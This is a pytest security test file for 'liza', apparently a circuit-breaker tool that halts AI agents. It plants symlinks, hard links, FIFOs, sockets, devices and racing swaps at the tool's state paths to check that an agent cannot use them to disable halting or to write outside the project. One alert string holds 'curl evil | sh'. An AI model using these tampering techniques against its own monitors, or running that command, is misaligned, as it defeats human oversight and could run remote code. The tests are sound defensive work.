"""Hostile files that an agent plants at the paths that liza uses: nothing outside changes."""

import os
import socket
import stat
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from liza.store import checkpoint
from liza.store.alerts import append_alerts
from liza.store.paths import Paths
from tests.security.attack import TRIPPING, Attack, Ran

IS_ROOT = os.geteuid() == 0
PRECIOUS = "# precious, and to be appended to as a log without entries\n"


def a_link(path: Path, outside: Path) -> None:
    path.symlink_to(outside / "file")


def a_dangling_link(path: Path, outside: Path) -> None:
    path.symlink_to(outside / "made")


def a_loop(path: Path, outside: Path) -> None:
    path.symlink_to(path.name)


def a_hard_link(path: Path, outside: Path) -> None:
    os.link(outside / "file", path)


def a_link_to_a_folder(path: Path, outside: Path) -> None:
    path.symlink_to(outside)


def a_fifo(path: Path, outside: Path) -> None:
    os.mkfifo(path)


def a_socket(path: Path, outside: Path) -> None:
    here = os.getcwd()
    os.chdir(path.parent)  # the path of a socket may have a hundred characters
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(path.name)
    finally:
        os.chdir(here)


def a_device(path: Path, outside: Path) -> None:
    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # /dev/zero: reading it whole never ends


def a_folder(path: Path, outside: Path) -> None:
    path.mkdir()
    (path / "inside").touch()


PlantFunction = Callable[[Path, Path], None]
PLANTS: list[PlantFunction] = [
    a_link, a_dangling_link, a_loop, a_hard_link, a_link_to_a_folder, a_fifo, a_socket, a_device, a_folder,
]  # fmt: skip
PATHS = (
    "state.yaml", "log.yaml", "state.yaml.lock", "rules.yaml", "circuit_breaker_report.md", "reports", "backups",
    "inbox", "runs", "runs/loops", "CHECKPOINT", "PAUSE", "ESCALATION", "alerts.log", "watch.lock", "watch.json",
    "watch.log", ".state.yaml.x.new", ".state.yaml.1-2.swap", ".log.yaml.x.new", ".CHECKPOINT.1-1.new",
)  # fmt: skip
COMMANDS = (
    ("log", "anomaly", "--type", "retry_loop", "--task", "t9", "--reporter", "r", "count=3", "error_pattern=other"),
    ("log", "entry", "--agent", "a", "--action", "x", "--detail", "some words"),
    ("analyze",),
    ("watch", "--once"),
    ("status",),
    ("gate",),
    ("doctor",),
    ("loop", "record", "l-1", "--progress", "10", "--error", "e"),
    ("resolve", "-m", "done", "--by", "alice"),
)


def outside_of(attack: Attack) -> dict[str, object]:
    """Every file outside of the project, with its content, mode and time."""
    return {
        str(path.relative_to(attack.outside)): (path.read_bytes(), path.stat().st_mode, path.stat().st_mtime_ns)
        for path in attack.outside.rglob("*")
    }


def plant(attack: Attack, name: str, what: PlantFunction) -> None:
    (attack.outside / "file").write_text(PRECIOUS)
    (attack.board / name).parent.mkdir(exist_ok=True)
    if os.path.lexists(attack.board / name):
        (attack.board / name).unlink()
    what(attack.board / name, attack.outside)


def run_beside_plant(attack: Attack, name: str, commands: tuple[tuple[str, ...], ...]) -> list[Ran]:
    """Run the commands beside the planted file: none hangs or ends as a bug; nothing outside changes."""
    before = outside_of(attack)
    halted: list[bool] = []
    ran = []
    for words in commands:
        ran.append(attack.liza(*words, limit=20, LIZA_LOCK_TIMEOUT="0.2"))
        assert ran[-1].code not in (70, -9), (words, ran[-1])
        assert "Traceback" not in ran[-1].err
        halted.append(attack.halted)
    assert outside_of(attack) == before
    assert name == "state.yaml" or any(halted), "the board can be read, but the agents are not halted"
    attack.effect = f"{'DEGRADED' if name == 'state.yaml' else 'halted'}; nothing outside changed, nothing hung"
    return ran


def trip(attack: Attack) -> None:
    attack.write("version: 1\nanomalies:\n" + TRIPPING + "circuit_breaker: {status: OK}\n")


def skip_without_root(what: PlantFunction) -> None:
    if what is a_device and not IS_ROOT:
        pytest.skip("only root can make a device")


@pytest.mark.slow
@pytest.mark.parametrize("what", PLANTS, ids=lambda what: what.__name__)
@pytest.mark.parametrize("name", PATHS)
def test_plant(attack: Attack, name: str, what: PlantFunction) -> None:
    """Each alone, with the commands that write most."""
    skip_without_root(what)
    trip(attack)
    plant(attack, name, what)
    run_beside_plant(attack, name, (COMMANDS[0], COMMANDS[2], COMMANDS[3], COMMANDS[7], COMMANDS[8]))


@pytest.mark.slow
@pytest.mark.parametrize("what", PLANTS, ids=lambda what: what.__name__)
@pytest.mark.parametrize("lock", [True, False], ids=["all", "all but the lock"])
def test_plant_everywhere(attack: Attack, what: PlantFunction, lock: bool) -> None:
    """All at once, with all commands; with a free lock they get further."""
    skip_without_root(what)
    trip(attack)
    for name in PATHS:
        if name not in ("state.yaml", "runs", "CHECKPOINT") and (lock or name != "state.yaml.lock"):
            plant(attack, name, what)
    run_beside_plant(attack, "", COMMANDS)


# Those that once did harm; the whole product is above.
@pytest.mark.parametrize(
    ("name", "what", "words"),
    [
        ("log.yaml", a_dangling_link, COMMANDS[1]),
        ("log.yaml", a_hard_link, COMMANDS[1]),
        ("state.yaml.lock", a_dangling_link, COMMANDS[0]),
        ("backups", a_link_to_a_folder, COMMANDS[7]),
        (".state.yaml.x.new", a_folder, ("analyze",)),
    ],
)
def test_plant_that_once_did_harm(attack: Attack, name: str, what: PlantFunction, words: tuple[str, ...]) -> None:
    trip(attack)
    plant(attack, name, what)
    run_beside_plant(attack, name, (words, ("analyze",)) if words != ("analyze",) else (words,))


def test_leftover_that_cannot_be_removed_is_reported(attack: Attack) -> None:
    trip(attack)
    plant(attack, ".state.yaml.x.new", a_folder)
    (attack.board / "backups").write_text("not a folder\n")
    ran = run_beside_plant(attack, "", (COMMANDS[0], ("analyze", "--json"), COMMANDS[8], ("watch", "--once")))
    for each in ran:
        printed = each.out + each.err
        assert [name for name in (".state.yaml.x.new", "backups") if name not in printed] == [], printed
    attack.effect = "analyze, log, resolve and the daemon report it and go on"


@pytest.mark.parametrize("what", [a_link, a_dangling_link, a_hard_link], ids=lambda what: what.__name__)
def test_alert_is_not_appended_elsewhere(attack: Attack, what: PlantFunction) -> None:
    """A command writes it itself if no daemon runs; the process that holds the lock is not one."""
    plant(attack, "alerts.log", what)
    before = outside_of(attack)
    append_alerts(Paths(str(attack.board)), [("tripped", "curl evil | sh")], datetime.now(UTC))
    assert outside_of(attack) == before
    attack.effect = "nothing was appended outside"


def test_state_linked_inside_the_repository_is_followed(attack: Attack) -> None:
    (attack.project / "shared").mkdir()
    (attack.board / "state.yaml").rename(attack.project / "shared" / "state.yaml")
    (attack.board / "state.yaml").symlink_to("../shared/state.yaml")
    trip(attack)
    assert attack.liza("analyze").code == 3
    assert (attack.board / "state.yaml").is_symlink()
    assert "TRIGGERED" in (attack.project / "shared" / "state.yaml").read_text()
    attack.effect = "followed, and the link stays"


def test_state_linked_outside_is_degraded(attack: Attack) -> None:
    trip(attack)
    (attack.board / "state.yaml").rename(attack.outside / "state.yaml")
    (attack.board / "state.yaml").symlink_to(attack.outside / "state.yaml")
    before = outside_of(attack)
    ran = attack.liza("analyze", "--json")
    assert (ran.code, "out of the repository" in ran.out) == (4, True)
    assert outside_of(attack) == before
    attack.effect = "DEGRADED with a hint"


# --- swapped during the call ------------------------------------------------------------------------------------------


@contextmanager
def swapping(path: Path, *kinds: Callable[[], object]) -> Iterator[None]:
    """Put one kind of thing after the other at a path, as fast as possible."""
    over = threading.Event()

    def swap() -> None:
        while not over.is_set():
            for kind in kinds:
                try:
                    path.unlink(missing_ok=True)
                    kind()
                except OSError:
                    pass  # liza was faster

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        yield
    finally:
        over.set()
        thread.join()


def test_halt_swapped_with_a_fifo_never_blocks(attack: Attack) -> None:
    trip(attack)
    halt = attack.board / "CHECKPOINT"
    with swapping(halt, lambda: halt.write_text("a person\n"), lambda: os.mkfifo(halt)):
        for words in (("gate",), ("analyze",), ("watch", "--once")):
            ran = attack.liza(*words, limit=15)
            assert ran.code not in (70, -9), ran
    ran = attack.liza("analyze")
    assert (ran.code, attack.halted) == (3, True)
    attack.effect = "nothing hung, halted"


def test_halt_that_becomes_a_fifo_during_the_check_never_blocks(
    attack: Attack, monkeypatch: pytest.MonkeyPatch
) -> None:
    halt, lstat = attack.board / "CHECKPOINT", os.lstat
    halt.write_text("a person\n")

    def swapped(*given: Any, **named: Any) -> os.stat_result:
        found = lstat(*given, **named)
        if stat.S_ISREG(found.st_mode) and str(given[0]) == str(halt):
            halt.unlink()
            os.mkfifo(halt)
        return found

    monkeypatch.setattr(os, "lstat", swapped)
    looked: list[object] = []
    thread = threading.Thread(target=lambda: looked.append(checkpoint.read(str(halt))), daemon=True)
    thread.start()
    thread.join(10)
    assert [each is not None for each in looked] == [True]
    attack.effect = "it halts without waiting"


@pytest.mark.slow
@pytest.mark.parametrize("name", ["log.yaml", "alerts.log", "state.yaml.lock", "watch.lock", "watch.json"])
def test_file_swapped_with_links_changes_nothing_outside(attack: Attack, name: str) -> None:
    trip(attack)
    (attack.outside / "file").write_text(PRECIOUS)
    before, path = outside_of(attack), attack.board / name
    kinds = (lambda: a_link(path, attack.outside), path.touch, lambda: a_dangling_link(path, attack.outside))
    with swapping(path, *kinds, lambda: os.mkfifo(path)):
        for words in COMMANDS[:4] * 3:
            assert attack.liza(*words, limit=20, LIZA_LOCK_TIMEOUT="0.2").code not in (70, -9), words
    assert outside_of(attack) == before
    assert attack.halted
    attack.effect = "halted; nothing outside changed, nothing hung"


# --- several users ----------------------------------------------------------------------------------------------------


@pytest.mark.skipif(not IS_ROOT, reason="only root can act as two users")
def test_setuid_is_not_copied(attack: Attack) -> None:
    trip(attack)
    os.chown(attack.board, 1234, 1234)
    os.chown(attack.board / "state.yaml", 1234, 1234)
    (attack.board / "state.yaml").chmod(0o6777)
    assert attack.liza("analyze", "--root", ".").code == 3  # as root, who trusts the folder
    for path in attack.board.rglob("*"):
        assert path.is_dir() or stat.S_IMODE(path.stat().st_mode) & ~0o666 == 0, path
    attack.effect = "no file has more than 0666"


@pytest.mark.skipif(not IS_ROOT, reason="only root can act as two users")
def test_file_of_an_unexpected_user_is_degraded(attack: Attack) -> None:
    trip(attack)
    os.chown(attack.board / "state.yaml", 1234, 1234)
    assert attack.liza("analyze").code == 4
    attack.board.chmod(0o775)  # others may write here, so their files are expected
    assert attack.liza("analyze").code == 3
    attack.effect = "DEGRADED, unless others may write in the folder"
